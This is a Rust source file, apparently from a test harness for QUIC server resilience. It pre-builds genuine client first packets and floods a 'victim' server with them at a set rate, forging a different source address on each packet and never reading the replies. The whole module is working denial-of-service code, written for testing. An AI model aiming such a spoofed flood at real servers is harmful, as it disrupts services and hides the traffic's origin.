//! First packets of QUIC clients with forged source addresses: no second packet follows.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::atomic::Ordering::Relaxed;
use std::time::Duration;

use quinn::udp::Transmit;
use quinn::{Runtime, TokioRuntime};
use tokio::time::{Instant, MissedTickBehavior};

use super::{Scale, Tally, attacker};
use crate::victim::Victim;

/// Number of different packets, which are sent in turn.
const DIFFERENT: usize = 10_000;
/// Time between two bursts of packets.
const TICK: Duration = Duration::from_millis(1);

/// The first packets of `count` clients; only an answer to a Retry would distinguish good clients.
fn first_packets(victim: &Victim, count: usize) -> io::Result<Vec<Vec<u8>>> {
    let config = victim.quic_config(quinn::TransportConfig::default());
    let mut endpoint = quinn_proto::Endpoint::new(std::sync::Arc::default(), None, false, None);
    let mut packets = Vec::new();
    for _ in 0..count {
        let now = TokioRuntime.now();
        let (_, mut connection) = endpoint
            .connect(now, config.clone(), victim.address, "localhost")
            .map_err(io::Error::other)?;
        let mut packet = Vec::new();
        if connection.poll_transmit(now, 1, &mut packet).is_none() {
            return Err(io::Error::other("a client has no first packet"));
        }
        packets.push(packet);
    }
    Ok(packets)
}

/// Sends first packets at the rate of `scale`, each from the next of its addresses.
pub(super) async fn flood(victim: &Victim, scale: Scale, tally: &Tally) -> io::Result<()> {
    // Few of them match an existing handshake, because the server has at most a few hundred in progress.
    let packets = first_packets(victim, DIFFERENT.min(scale.addresses))?;
    let any = SocketAddr::from((Ipv4Addr::UNSPECIFIED, 0));
    // The answers are not read, as with addresses that are not the attacker's.
    let socket = TokioRuntime.wrap_udp_socket(UdpSocket::bind(any)?)?;
    let mut ticks = tokio::time::interval(TICK);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let began = Instant::now();
    let mut sent = 0_usize;
    loop {
        ticks.tick().await;
        let due = began.elapsed().as_secs_f64() * scale.rate - sent as f64;
        // Packets that could not be sent in time are not sent later in one burst.
        let mut burst = due.min((scale.rate * TICK.as_secs_f64() * 20.0).max(1.0));
        while burst >= 1.0 {
            burst -= 1.0;
            let transmit = Transmit {
                destination: victim.address,
                ecn: None,
                contents: &packets[sent % packets.len()],
                segment_size: None,
                src_ip: Some(attacker(sent % scale.addresses).into()),
            };
            // A full socket drops packets, as any link does.
            let _ = socket.try_send(&transmit);
            sent += 1;
            tally.actions.fetch_add(1, Relaxed);
        }
    }
}
